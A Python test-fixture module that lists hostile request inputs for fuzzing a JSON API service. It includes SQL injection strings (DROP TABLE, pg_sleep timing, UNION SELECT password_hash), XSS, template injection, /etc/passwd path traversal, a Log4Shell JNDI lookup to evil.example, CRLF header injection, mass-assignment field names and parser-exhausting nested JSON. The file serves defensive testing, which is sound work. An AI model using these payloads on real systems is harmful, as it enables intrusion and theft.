"""What strangers put into bodies, and into fields: as JSON texts, since no Python value says all of it."""

import json

# Every field of this service is a text (ASVS 15.3.5: type confusion).
WRONG_TYPES = {
    "null": "null",
    "true": "true",
    "false": "false",
    "zero": "0",
    "negative": "-1",
    "fraction": "1.5",
    "beyond a float": "1e999",
    "beyond a float, negative": "-1e999",
    "5,000 digits": "9" * 5_000,
    "empty list": "[]",
    "empty object": "{}",
    "two texts": '["a","b"]',
    "an email in a list": '["ada@example.com"]',
    "object": '{"a":1}',
    "query operator": '{"$ne":null}',
}

# PostgreSQL's text takes no NUL, UTF-8 no half of a character.
UNWRITABLE = {
    "NUL": json.dumps("a\0bcdefghijk"),
    "lone surrogate": '"\\ud800abcdefghijk"',
    "lone low surrogate": '"abcdefghijk\\udc00"',
    "surrogates in the wrong order": '"\\udc00\\ud800abcdefghijk"',
}

# Each long enough to be a password.
HIDDEN = {
    name: json.dumps(text)
    for name, text in {
        "line separator": "two\u2028lines here",
        "paragraph separator": "two\u2029lines here",
        "CR LF": "two\r\nBcc: mallory@example.com",
        "line feed at the end": "mallory@example.com\na",
        "tab": "one\tand another",
        "ANSI escape": "\x1b[31m red text \x1b[0m",
        "C1 control": "next\x85line of text",
        "DEL": "rub\x7fout of the text",
        "bidi override": "abc\u202efdp.exe",
        "bidi isolate": "abc\u2066defgh\u2069",
        "right-to-left mark": "abc\u200fdefgh",
    }.items()
}

SQL = {
    "quote": "x' OR '1'='1",
    "comment": "ada'; DROP TABLE users; --",
    "sleep": "'||(SELECT pg_sleep(5))||'",
    "stacked sleep": "1; SELECT pg_sleep(5) --",
    "sleep in an email": "a'||pg_sleep(5)||'@example.com",
    "union": "' UNION SELECT password_hash FROM users --",
    "dollar quote": "$$; SELECT pg_sleep(5); $$",
    "parameter": "%(email)s %s %% {0} :email",
    "backslash": "\\'; SELECT pg_sleep(5); --",
}

# Addresses that mail could be sent to (RFC 5322 allows quotes, bars and braces in them).
SQL_EMAILS = {
    "email with a quote": "o'brien@example.com",
    "email that ends a text": "a'||'b@example.com",
    "email with a comment": "ada'--@example.com",
    "email with a parameter": "%s{0}$1@example.com",
}

# Legal for some fields, and for none a reason to fall over.
STRANGE = {
    name: json.dumps(text)
    for name, text in {
        **SQL,
        **SQL_EMAILS,
        "empty": "",
        "blanks": "   ",
        "2,000 characters": "x" * 2_000,
        "2,000 emoji": "\U0001f511" * 1_300,
        "template": "{{7*7}} ${7*7} <%= 7*7 %>",
        "script": "<script>alert(1)</script>",
        "path": "../../../../etc/passwd",
        "format": "%n%n%s%x",
        "jndi": "${jndi:ldap://evil.example/a}",
        "combining": "Z" + "\u0301" * 60,
        "full width": "\uff21\uff24\uff21\uff20example.com",
        "dotless i": "m\u0131ke@example.com",
        "two addresses": "ada@example.com,bob@example.com",
    }.items()
}

UNKNOWN_FIELDS = (
    *("is_admin", "role", "id", "email_verified", "password_hash", "created_at", "user_id"),
    *("isAdmin", "emailVerified", "passwordHash", "createdAt", "userId", "sid"),
    *("password_version", "disabled_at", "__proto__", "constructor", ""),
)

# Deeper than the parser can go, and yet within the size of a body.
DEEP = 8_000

NOT_AN_OBJECT = {
    "nothing but a brace": b"{",
    "words": b"email=ada",
    "single quotes": b"{'a':'b'}",
    "comma at the end": b'{"a":1,}',
    "two objects": b"{} {}",
    "a comment": b"{} // done",
    "list": b"[]",
    "list of objects": b'[{"email":"ada@example.com"}]',
    "text": b'"text"',
    "number": b"7",
    "null": b"null",
    "true": b"true",
    "NaN": b'{"a":NaN}',
    "Infinity": b'{"a":Infinity}',
    "-Infinity": b'{"a":[-Infinity]}',
    "bare NaN": b"NaN",
    "one key twice": b'{"a":1,"a":1}',
    "one key twice, written differently": b'{"email":"a","\\u0065mail":"b"}',
    "one key twice inside": b'{"a":{"b":1,"b":2}}',
    "a hundred lists in a field": b'{"email":' + b"[" * 100 + b"]" * 100 + b"}",
    "deep lists": b"[" * DEEP + b"]" * DEEP,
    "deep lists in a field": b'{"email":' + b"[" * DEEP + b"]" * DEEP + b"}",
    "deep objects in a field": b'{"a":' * 2_500 + b"1" + b"}" * 2_500,
    "brackets that never close": b"[" * 16_384,
    "not UTF-8": b'{"a":"\xff"}',
    "half a character": b'{"a":"\xf0\x9f\x94"}',
    "a surrogate in UTF-8": b'{"a":"\xed\xa0\x80"}',
    "overlong slash": b'{"a":"\xc0\xaf"}',
    "UTF-16": '{"a":"b"}'.encode("utf-16"),
    "UTF-32": '{"a":"b"}'.encode("utf-32-le"),
    "a control character in a text": b'{"a":"\n"}',
    "NUL": b"\0",
    "NUL at the end": b"{}\0",
    "unknown escape": b'{"a":"\\x41"}',
    "leading zero": b'{"a":01}',
    "hexadecimal": b'{"a":0x1}',
}
NOT_JSON_TYPES = (
    "text/plain",
    "text/plain; charset=application/json",
    "text/json",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=x",
    "application/vnd.api+json",
    "application/jsonp",
    "application/json, text/plain",
    "application",
    "*/*",
    "",
    None,
)
